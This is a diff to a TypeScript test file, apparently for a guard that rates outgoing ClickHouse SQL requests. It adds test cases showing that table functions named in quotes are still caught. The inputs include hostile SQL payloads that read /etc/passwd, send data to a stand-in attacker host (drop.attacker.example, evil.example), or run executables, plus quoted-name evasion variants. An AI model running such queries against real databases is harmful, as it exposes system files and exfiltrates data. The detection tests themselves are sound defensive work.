@@ -1502,7 +1502,7 @@ t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reache
     (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
   );
   const call = fc.constantFrom("file('/etc/passwd', LineAsString)", "url('https://drop.attacker.example/x', CSV, 'a String')", "s3('https://b.s3.amazonaws.com/x')",
-    "remoteSecure('evil.example:9440', system.one)", "filesystem('/root')", "executable('x.sh', TSV, 'a String')", "read_csv('/etc/passwd')");
+    "remoteSecure('evil.example:9440', system.one)", "filesystem('/root')", "executable('x.sh', TSV, 'a String')", "read_csv('/etc/passwd')", "`url`('https://drop.attacker.example/x', CSV)");
   const hide = fc.constantFrom(
     (c: string) => `SELECT * FROM ${c} SETTINGS max_threads = 1`,
     (c: string) => `SELECT arrayMap(x -> x, [1]) FROM ${c}`,
@@ -1522,9 +1522,14 @@ t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reache
     }),
     { numRuns: Math.min(runs, 10), ...seed },
   );
+  // A function named in quotes is still called (`` `url`(…) ``, `"file"(…)`, “s3”(…)).
+  for (const sql of ["SELECT * FROM `url`('https://drop.attacker.example/x', CSV) SETTINGS a = 1", 'SELECT * FROM "file"(\'/etc/passwd\', LineAsString) SETTINGS a = 1', "SELECT * FROM “s3”('https://b.s3.amazonaws.com/x') SETTINGS a = 1"]) {
+    const { decision } = await decide({ method: 'GET', url: `http://${SQL_HOST}:8123/?query=${q(sql)}`, headers: [], body: '' });
+    t.equal(decision.approval?.risk, 'critical', sql);
+  }
   // Controls: ClickHouse's own syntax in reads of the database's tables, phrases, InfluxQL.
   for (const url of [`http://${SQL_HOST}:8123/?query=${q('SELECT count() FROM hits SETTINGS max_threads = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT arrayMap(x -> x * 2, [1, 2]) FROM numbers(3)')}`,
-    `http://${SQL_HOST}:8123/?query=${q('SHOW CREATE TABLE users SETTINGS a = 1')}`, `https://${SQL_HOST}/query?query=${q('show me files in the directory (home)')}`,
+    `http://${SQL_HOST}:8123/?query=${q('SHOW CREATE TABLE users SETTINGS a = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT `file`, x FROM t SETTINGS a = 1')}`, `https://${SQL_HOST}/query?query=${q('show me files in the directory (home)')}`,
     `https://${SQL_HOST}/query?query=${q('remote (work) jobs')}`, `https://${SQL_HOST}/api/run?sql=${q('delete my account')}`,
     `https://${SQL_HOST}/query?q=${q('SELECT mean(v) FROM cpu WHERE time > now() - 1h GROUP BY time(1m) fill(null)')}`]) {
     const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
